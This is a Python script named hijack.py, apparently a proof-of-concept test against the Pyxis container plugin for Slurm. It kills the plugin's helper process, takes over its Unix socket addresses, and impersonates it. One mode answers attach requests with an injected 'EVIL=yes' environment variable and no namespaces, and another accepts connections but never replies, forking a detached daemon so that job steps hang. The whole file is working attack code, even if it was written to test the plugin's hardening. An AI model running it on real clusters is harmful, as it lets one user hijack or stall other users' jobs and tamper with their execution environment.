"""Run in a container with the node's /usr: kill the step's helper and answer in its place, or connect and be silent.

hijack.py attach|silent: kill the helper, and listen at its abstract addresses, and at its sockets in /run/pyxis if
they are visible. "attach" answers each request to attach with a variable EVIL and no namespaces; "silent" accepts
connections and never answers.

hijack.py idle: leave the helper alive, connect to it and send nothing.
"""

from __future__ import annotations

import glob
import os
import select
import signal
import socket
import struct
import sys
import time


def addresses() -> set[str]:
    """Return the abstract addresses with a listener in this network namespace."""
    with open("/proc/net/unix") as file:
        return {
            line.split()[-1][1:]
            for line in file
            if line.rstrip("\n").split()[-1].startswith("@") and " 00010000 " in line
        }


def helpers() -> list[int]:
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                if b"pyxis_py.helper" in file.read() and os.stat(path).st_uid in (os.getuid(), 0):
                    found.append(int(path.split("/")[2]))
        except OSError:
            continue
    return found


def answer(connection: socket.socket) -> None:
    payload = b"ok\0\0workdir\0/\0environ\0EVIL=yes\0set\0EVIL=yes\0"
    connection.sendall(struct.pack("<I", len(payload)) + payload)
    time.sleep(0.2)
    connection.close()


def main() -> None:
    mode = sys.argv[1]
    before = addresses()
    links = glob.glob("/run/pyxis/*/running/*/*")
    if mode == "idle":
        idle = []
        for address in [*(b"\0" + os.fsencode(a) for a in before), *map(os.fsencode, links)]:
            connection = socket.socket(socket.AF_UNIX)
            connection.setblocking(False)
            try:
                connection.connect(address)
            except OSError:
                continue
            idle.append(connection)
        print("ready", flush=True)
        sys.stdin.readline()
        return
    for pid in helpers():
        try:
            os.kill(pid, signal.SIGKILL)
        except PermissionError:  # slurmstepd, whose command line has pyxis_py.helper too, or another user's process
            continue
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline and not before - addresses():
        time.sleep(0.01)
    listeners = []
    for address in sorted(before - addresses()):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(b"\0" + os.fsencode(address))
        listeners.append(listener)
    for path in links:
        listener = socket.socket(socket.AF_UNIX)
        os.unlink(path)
        listener.bind(path)
        listeners.append(listener)
    for listener in listeners:
        listener.listen()
    print("ready", flush=True)
    kept = []
    while True:
        ready, _, _ = select.select([sys.stdin, *listeners], (), ())
        if sys.stdin in ready:
            break
        for listener in ready:
            connection, _ = listener.accept()
            kept.append(connection)
            if mode == "attach":
                answer(connection)
    if mode == "silent" and os.fork() == 0:  # outlive this task: slurmstepd connects after the last task has ended
        os.setsid()
        for fd in range(3):
            os.close(fd)
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:
            for listener in select.select(listeners, (), (), 1)[0]:
                kept.append(listener.accept()[0])
        os._exit(0)


main()
